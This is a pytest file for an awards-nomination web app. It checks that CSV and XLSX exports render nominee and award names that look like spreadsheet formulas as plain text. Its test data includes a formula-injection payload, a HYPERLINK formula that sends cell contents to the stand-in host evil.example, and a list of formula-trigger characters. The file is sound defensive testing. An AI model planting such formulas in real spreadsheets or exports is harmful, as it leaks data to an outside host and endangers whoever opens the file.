"""Formula injection through the exports: a nominee, or an award, named like a spreadsheet
formula is exported as text, never as a formula, in every CSV and XLSX download."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from tests.auditor.conftest import Browser
from workflows import auth
from workflows.models import Nomination

AUDITOR = "thanhtra.cdgdvn"  # THPT_LVT is in the subtree
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&C2,"Xem")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_NAMES = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\tTab", "\r=1"]


def token(browser: Browser, username: str) -> dict[str, str]:
    with Session(browser.db) as session, session.begin():
        issued = auth.issue_token(session, username, browser.clock.now())
    return {"Authorization": f"Bearer {issued.token}"}


def propose(browser: Browser, names: list[str]) -> list[str]:
    """A proposer nominates people with these names; returns the names as stored."""
    headers = token(browser, "canbo.thpt_lvt")
    for name in names:
        body = {
            "org": "THPT_LVT",
            "award_code": "CSTD_BO_TINH",
            "campaign": "NH2025-2026",
            "nominee": {"kind": "individual", "name": name, "position": "Giáo viên"},
            "achievements": "Hoàn thành xuất sắc nhiệm vụ.",
            "documents": ["Tờ trình đề nghị"],
        }
        response = browser.client.post("/api/v1/nominations", json=body, headers=headers)
        assert response.status_code == 201, response.get_json()
    with Session(browser.db) as session:
        stored = session.scalars(
            select(Nomination.nominee_name).order_by(Nomination.id.desc()).limit(len(names))
        ).all()
    return list(reversed(stored))


def xlsx_cells(body: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [cell for row in sheet.iter_rows() for cell in row]


def test_a_nominee_named_like_a_formula_is_text_in_the_search_exports(browser: Browser) -> None:
    names = propose(browser, FORMULA_NAMES)
    assert HYPERLINK in names, names
    browser.login(AUDITOR)

    response = browser.get("/thanh-tra/tim-kiem.xlsx", query_string={"action": "instance.started"})
    assert response.status_code == 200
    cells = xlsx_cells(response.get_data())
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    exported = {c.value for c in cells if c.column == 4}  # the nominee column
    assert set(names) <= exported  # as typed, not altered
    formula_like = [c for c in cells if c.value in names and c.value.startswith(FORMULA_STARTS)]
    assert len(formula_like) >= 4 and all(
        c.data_type == "s" and c.quotePrefix for c in formula_like
    )
    assert any(c.data_type == "n" for c in cells)  # numbers stay numbers (the event's seq)

    response = browser.get("/thanh-tra/tim-kiem.csv", query_string={"action": "instance.started"})
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))
    nominees = [row[3] for row in rows[1:]]
    assert {f"'{n}" if n.startswith(FORMULA_STARTS) else n for n in names} <= set(nominees)
    assert not [n for n in nominees if n.startswith(FORMULA_STARTS)]


def test_an_award_named_like_a_formula_is_text_in_the_statistics_exports(
    browser: Browser,
) -> None:
    with Session(browser.db) as session:
        award = session.scalars(
            select(Nomination.award_code).where(Nomination.origin_org == "THPT_LVT")
        ).first()
    assert award is not None
    renamed = browser.client.patch(
        f"/api/v1/installation/awards/{award}",
        json={"name": HYPERLINK},
        headers=token(browser, "quantri"),
    )
    assert renamed.status_code == 200, renamed.get_json()
    browser.login(AUDITOR)

    cells = xlsx_cells(browser.get("/thanh-tra/thong-ke.xlsx").get_data())
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    [named] = [c for c in cells if c.value == HYPERLINK]
    assert named.data_type == "s"

    body = browser.get("/thanh-tra/thong-ke.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert [cell for row in rows for cell in row if HYPERLINK in cell] == ["'" + HYPERLINK]
